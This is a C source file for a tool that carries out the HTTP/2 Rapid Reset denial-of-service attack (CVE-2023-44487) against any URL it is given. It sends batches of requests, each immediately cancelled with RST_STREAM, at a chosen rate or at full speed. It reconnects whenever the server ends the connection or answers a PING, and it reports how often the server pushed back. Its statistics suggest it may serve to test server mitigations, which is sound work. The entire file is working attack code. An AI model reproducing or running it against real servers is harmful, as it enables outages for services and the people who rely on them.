/*
 * resets: a client of HTTP/2 that sends requests and resets each of them (CVE-2023-44487), at a given
 * rate or as fast as it can.  A connection sends at most a thousand of them and then a PING.  The next
 * connection follows when the server ends this one or answers the PING, so that servers which do
 * not end it get as many resets as the others.  A reset counts when the socket has taken it.  Linux.
 */
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "client.h"
#include "client_http2.h"
#include "frames.h"

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define PAIRS \
	1000 /* requests with their resets that a connection has at most */
#define TURN	 10   /* ms */
#define MOST_DUE 2000 /* resets that are caught up with at once */
#define CALM	 11   /* ENHANCE_YOUR_CALM */
#define PONG	 256  /* no error: the PING was answered */
#define PING	 8    /* bytes of its payload */

/* The server's frames, of which only a GOAWAY and the answer to the PING are looked at. */
struct walk {
	unsigned char w_head[17]; /* with the payload's first eight bytes */
	size_t w_got, w_skip;
};

struct resets {
	double r_rate, r_seconds; /* r_rate 0: as many as it can */
	struct targets r_targets;
	unsigned char *r_text; /* all that a connection sends */
	size_t r_begin, r_pair, r_len;
	int r_fd; /* -1: none */
	bool r_connected;
	size_t r_at;
	struct walk r_walk;
	uint64_t r_start, r_resets,
	    r_before; /* before: of earlier connections */
	uint64_t r_conns, r_calmed, r_ended, r_failed;
};

static void
usage(void)
{
	fputs("usage: resets [--rate N] [--seconds S] URL\n", stderr);
	exit(2);
}

/* ------------------------------------------------------------ what is sent */

static void
put_pair(struct resets *r, uint32_t stream)
{
	const unsigned char cancel[] = {0, 0, 0, 8};

	r->r_len += frames_get(r->r_text + r->r_len, &r->r_targets, stream);
	r->r_len += frames_head(
	    r->r_text + r->r_len, sizeof(cancel), FRAME_RST_STREAM, 0, stream);
	memcpy(r->r_text + r->r_len, cancel, sizeof(cancel));
	r->r_len += sizeof(cancel);
}

/* The server answers it when it has read all before it. */
static void
put_ping(struct resets *r)
{
	r->r_len += frames_head(r->r_text + r->r_len, PING, FRAME_PING, 0, 0);
	memset(r->r_text + r->r_len, 0, PING);
	r->r_len += PING;
}

static void
build(struct resets *r)
{
	const size_t preface = sizeof(FRAMES_PREFACE) - 1;

	r->r_text = malloc(preface + FRAMES_HEAD +
			   PAIRS * (FRAMES_REQUEST + FRAMES_HEAD + 4) +
			   FRAMES_HEAD + PING);
	if (r->r_text == NULL)
		err(1, NULL);
	memcpy(r->r_text, FRAMES_PREFACE, preface);
	r->r_len =
	    preface + frames_head(r->r_text + preface, 0, FRAME_SETTINGS, 0, 0);
	r->r_begin = r->r_len;
	put_pair(r, 1);
	r->r_pair = r->r_len - r->r_begin;
	for (uint32_t i = 1; i < PAIRS; i++)
		put_pair(r, 2 * i + 1);
	put_ping(r);
}

/* ------------------------------------------------------------ connections */

static void
leave(struct resets *r)
{
	client_close(r->r_fd);
	r->r_fd = -1;
	r->r_before = r->r_resets;
}

static void
join(struct resets *r)
{
	r->r_fd = client_connect(&r->r_targets, 0, 0);
	r->r_at = 0;
	r->r_walk = (struct walk){0};
	r->r_connected = false;
	if (r->r_fd < 0) {
		r->r_fd = -1;
		r->r_failed++;
	}
}

static void
finish_joining(struct resets *r)
{
	int error = client_connected(r->r_fd);

	if (error == EAGAIN)
		return;
	r->r_connected = error == 0;
	r->r_conns += error == 0;
	if (error != 0) {
		r->r_failed++;
		leave(r);
	}
}

/* ns since the begin. */
static uint64_t
elapsed(const struct resets *r)
{
	return client_now() - r->r_start;
}

/* So many resets may have gone by now. */
static uint64_t
due(struct resets *r)
{
	uint64_t all;

	if (r->r_rate == 0)
		return UINT64_MAX;
	all = (uint64_t)((double)elapsed(r) / 1e9 * r->r_rate);
	return all < r->r_resets + MOST_DUE ? all : r->r_resets + MOST_DUE;
}

/* Whole pairs, so that nothing waits for its reset. */
static void
send_due(struct resets *r)
{
	uint64_t may = due(r) - r->r_before;
	size_t end = may >= PAIRS ? r->r_len : r->r_begin + may * r->r_pair;
	ssize_t n;

	if (end <= r->r_at || (may == 0 && r->r_at > 0))
		return;
	n = client_write(r->r_fd, r->r_text + r->r_at, end - r->r_at);
	if (n < 0) {
		if (errno != EAGAIN) {
			r->r_ended++;
			leave(r);
		}
		return;
	}
	r->r_at += (size_t)n;
	if (r->r_at > r->r_begin)
		r->r_resets = r->r_before + (r->r_at - r->r_begin) / r->r_pair;
}

/* ------------------------------------------------------------ what comes */

/* The error of a GOAWAY, PONG, or -1. */
static int
take(struct walk *w, const unsigned char *data, size_t len)
{
	size_t payload;

	for (size_t i = 0; i < len; i++) {
		if (w->w_skip > 0) {
			size_t n = w->w_skip < len - i ? w->w_skip : len - i;

			w->w_skip -= n;
			i += n - 1;
			continue;
		}
		w->w_head[w->w_got++] = data[i];
		if (w->w_got < FRAMES_HEAD)
			continue;
		payload = (size_t)w->w_head[0] << 16 | w->w_head[1] << 8 |
			  w->w_head[2];
		if (w->w_head[3] == FRAME_GOAWAY && payload >= 8) {
			if (w->w_got < sizeof(w->w_head))
				continue;
			return w->w_head[16];
		}
		if (w->w_head[3] == FRAME_PING)
			return PONG;
		w->w_skip = payload;
		w->w_got = 0;
	}
	return -1;
}

static void
receive(struct resets *r)
{
	unsigned char data[16384];
	ssize_t n = client_read(r->r_fd, data, sizeof(data));
	int error = -1;

	if (n < 0 && errno == EAGAIN)
		return;
	if (n > 0)
		error = take(&r->r_walk, data, (size_t)n);
	if (n > 0 && error == -1)
		return;
	r->r_calmed += error == CALM;
	r->r_ended += error != CALM && error != PONG;
	leave(r);
}

/* ------------------------------------------------------------------ loop */

static void
wait_for_events(const struct resets *r)
{
	bool full = r->r_connected && r->r_rate == 0 && r->r_at < r->r_len;
	struct pollfd pfd = {.fd = r->r_fd, .events = POLLIN};
	const struct timespec soon = {.tv_nsec = 200000};

	if (!r->r_connected || full)
		pfd.events |= POLLOUT;
	if (r->r_rate > 0 && r->r_connected && r->r_at < r->r_len)
		ppoll(&pfd, 1, &soon, NULL);
	else
		poll(&pfd, 1, TURN);
}

static void
turn(struct resets *r)
{
	if (r->r_fd == -1)
		join(r);
	if (r->r_fd == -1)
		return;
	wait_for_events(r);
	if (!r->r_connected) {
		finish_joining(r);
		return;
	}
	receive(r);
	if (r->r_fd != -1 && r->r_at < r->r_len)
		send_due(r);
}

static void
print(const struct resets *r)
{
	double seconds = (double)elapsed(r) / 1e9;

	printf("{\"seconds\": %.3f, \"resets\": %" PRIu64
	       ", \"rate\": %.1f, \"connections\": %" PRIu64
	       ", \"calmed\": %" PRIu64 ", \"ended\": %" PRIu64
	       ", \"failed\": %" PRIu64 "}\n",
	    seconds, r->r_resets, (double)r->r_resets / seconds, r->r_conns,
	    r->r_calmed, r->r_ended, r->r_failed);
}

int
main(int argc, char **argv)
{
	static const struct option options[] = {
	    {"rate", 1, NULL, 'r'}, {"seconds", 1, NULL, 's'}, {0}};
	struct resets r = {.r_seconds = 10, .r_fd = -1};
	int c;

	while ((c = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (c == 'r')
			r.r_rate = client_number("rate", optarg, 1, 1e7);
		else if (c == 's')
			r.r_seconds =
			    client_number("seconds", optarg, 0.001, 1e6);
		else
			usage();
	}
	if (argc - optind != 1)
		usage();
	targets_load(&r.r_targets, argv[optind], NULL);
	http2_start(&r.r_targets);
	client_catch_signals();
	build(&r);
	r.r_start = client_now();
	while (!client_stopped && (double)elapsed(&r) < r.r_seconds * 1e9)
		turn(&r);
	print(&r);
	if (r.r_fd != -1)
		client_close(r.r_fd);
	targets_free(&r.r_targets);
	free(r.r_text);
	return 0;
}
